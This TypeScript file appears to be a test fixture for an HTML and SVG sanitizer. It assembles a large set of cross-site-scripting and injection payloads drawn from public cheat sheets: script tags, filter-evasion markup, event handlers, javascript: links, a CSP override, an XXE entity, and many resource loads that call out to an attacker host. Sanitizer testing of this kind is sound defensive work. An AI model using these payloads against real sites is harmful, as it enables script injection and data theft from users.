/**
 * HTML and SVG attacks on pages, from public collections: OWASP's filter evasion, html5sec and PortSwigger's cheat
 * sheets. Each tries to reach `evil` or to run `run`. Every kind of drawing is tested with all of them.
 */
export function canvasAttacks(evil: string): readonly string[] {
  const run = `top.pwned=1;parent.pwned=1;window.pwned=1;fetch('${evil}/run')`;
  const encoded = encodeURIComponent(`<script>${run}</script>`);
  const base64 = Buffer.from(`<script>${run}</script>`).toString('base64');
  return [
    ...scripts(run, evil, base64),
    ...handlers(run, evil),
    ...links(run, evil, encoded),
    ...requests(evil),
    ...drawings(run, evil, base64),
  ];
}

const scripts = (run: string, evil: string, base64: string): readonly string[] => [
  `<script>${run}</script>`,
  `<script src="${evil}/a.js"></script>`,
  `<script src="data:text/javascript;base64,${Buffer.from(run).toString('base64')}"></script>`,
  `<script type="module">import '${evil}/b.js'; ${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</title></style></textarea><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  `<template><script>${run}</script></template><script>document.body.append(document.querySelector('template').content)</script>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${run}&quot;&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JSON.stringify(run)}>">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="data:text/html;base64,${base64}"></iframe>`,
];

const handlers = (run: string, evil: string): readonly string[] => [
  `<img src=x onerror="${run}">`,
  `<img src="${evil}/c.png" onload="${run}" onerror="${run}">`,
  `<body onload="${run}" onpageshow="${run}" onfocus="${run}">`,
  `<svg onload="${run}"></svg>`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<video src=x onerror="${run}"></video>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}" autoplay></audio>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="${run}">x</p>`,
  `<p style="transition:color 1ms" ontransitionend="${run}" tabindex=1 autofocus>x</p>`,
  `<object data=x onerror="${run}"></object>`,
  `<link rel=stylesheet href=x onerror="${run}">`,
  `<iframe onload="${run}"></iframe>`,
  `<p contenteditable autofocus onfocusin="${run}" onbeforeinput="${run}">x</p>`,
  `<dialog open onclose="${run}"><form method=dialog><button autofocus onfocus="${run}">x</button></form></dialog>`,
];

const links = (run: string, evil: string, encoded: string): readonly string[] => [
  `<a href="javascript:${run}" id=x autofocus>x</a><script>x.click()</script>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `<a href="${evil}/ping" ping="${evil}/pinged">x</a>`,
  `<base href="${evil}/"><img src="based.png"><a href="x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><script src="${evil}/d.js"></script>`,
  `<form action="${evil}/form" id=f><input name=a value=b></form><script>f.submit()</script>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe src="data:text/html,${encoded}"></iframe>`,
  `<embed src="${evil}/embed.svg"><embed src="javascript:${run}">`,
  `<object data="data:text/html,${encoded}"></object>`,
  `<map name=m><area shape=default href="javascript:${run}"></map><img usemap=#m src="${evil}/map.png">`,
];

const requests = (evil: string): readonly string[] => [
  `<img src="${evil}/e.png" srcset="${evil}/f.png 2x" loading=eager>`,
  `<picture><source srcset="${evil}/g.png"><img></picture>`,
  `<link rel="stylesheet" href="${evil}/h.css"><link rel="icon" href="${evil}/i.ico">`,
  `<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="//pwned.example"><link rel="preload" as="image" href="${evil}/j.png">`,
  `<link rel="prefetch" href="${evil}/k"><link rel="modulepreload" href="${evil}/l.js"><link rel="manifest" href="${evil}/m">`,
  `<style>@import url("${evil}/n.css");@font-face{font-family:x;src:url("${evil}/o.woff2")}*{font-family:x}</style>x`,
  `<div style="background:url(${evil}/p.png);list-style:url(${evil}/q.png);cursor:url(${evil}/r.cur),auto">x</div>`,
  `<style>input[value^=a]{background:image-set(url(${evil}/s.png) 1x)}body::before{content:url(${evil}/t.png)}</style><input value=a>`,
  `<video poster="${evil}/u.png" src="${evil}/v.mp4" autoplay><track src="${evil}/w.vtt" default></video>`,
  `<audio src="${evil}/x.ogg" autoplay></audio><embed src="${evil}/y">`,
  `<table background="${evil}/z.png"><tr><td background="${evil}/aa.png">x</td></tr></table>`,
  `<frameset><frame src="${evil}/bb"></frameset>`,
  `<portal src="${evil}/cc"></portal><fencedframe></fencedframe>`,
];

const drawings = (run: string, evil: string, base64: string): readonly string[] => [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><script href="${evil}/dd.js"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><rect width="9" height="9" onclick="${run}"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${evil}/ee.png" width="9" height="9"/><use xlink:href="${evil}/ff.svg#a"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/gg"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/></foreignObject></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="x" onbegin="${run}" dur="1ms"/><set attributeName="href" to="javascript:${run}"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${evil}/hh.css);*{fill:url(${evil}/ii.svg#a);filter:url(${evil}/jj.svg#f)}</style><rect width="9" height="9"/></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${evil}/kk.xsl" type="text/xsl"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}/ll">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,${base64}#x"/><feImage href="${evil}/mm.png"/><a href="javascript:${run}"><text y="9">x</text></a></svg>`,
];
